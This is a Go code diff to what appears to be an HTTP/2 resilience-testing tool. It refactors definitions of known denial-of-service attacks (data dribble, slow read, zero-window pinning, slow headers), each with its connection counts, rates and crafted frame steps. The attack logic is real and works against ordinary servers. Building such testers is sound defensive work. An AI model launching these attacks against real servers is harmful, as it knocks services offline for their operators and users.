@@ -31,26 +31,23 @@ func slow() []Attack {
 	return []Attack{
 		{
 			ID: "dribble", Title: "data dribble: 400 streams whose windows are opened a byte at a time", Refs: "CVE-2019-9511",
-			Connections: 4, Rate: 4000, Lasts: pinned, Right: []string{calm, "RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM CANCEL"},
+			Connections: 4, Asks: 100, Rate: 4000, Lasts: pinned, Right: []string{calm, "RST_STREAM ENHANCE_YOUR_CALM", "RST_STREAM CANCEL"},
 			Begin: begin(0),
-			First: func(c *Conn) { c.ask(100) },
 			Step:  func(c *Conn, i int) { c.do(c.frames.WriteWindowUpdate(uint32(2*(i%100)+1), 1)) },
 		},
 		{
 			ID: "slow-read", Title: "slow read: 400 responses of 1 MiB, read at 1 kB/s", Refs: "CVE-2019-9517",
-			Connections: 20, Rate: 200, Lasts: pinned, Bound: bounded, Deaf: true,
+			Connections: 20, Asks: 20, Rate: 200, Lasts: pinned, Bound: bounded, Deaf: true,
 			Begin: func(c *Conn) {
 				begin(maxWindow)(c)
 				c.do(c.frames.WriteWindowUpdate(0, maxWindow-65535))
 			},
-			First: func(c *Conn) { c.ask(20) },
-			Step:  func(c *Conn, _ int) { c.sip(sip) },
+			Step: func(c *Conn, _ int) { c.sip(sip) },
 		},
 		{
 			ID: "zero-window", Title: "zero-window pinning: 400 responses of 1 MiB that may not be sent",
-			Connections: 4, Lasts: pinned, Bound: bounded,
+			Connections: 4, Asks: 100, Lasts: pinned, Bound: bounded,
 			Begin: begin(0),
-			First: func(c *Conn) { c.ask(100) },
 		},
 		{
 			ID: "slow-headers", Title: "slow headers: 50 header blocks that a CONTINUATION of one byte each second does not end",
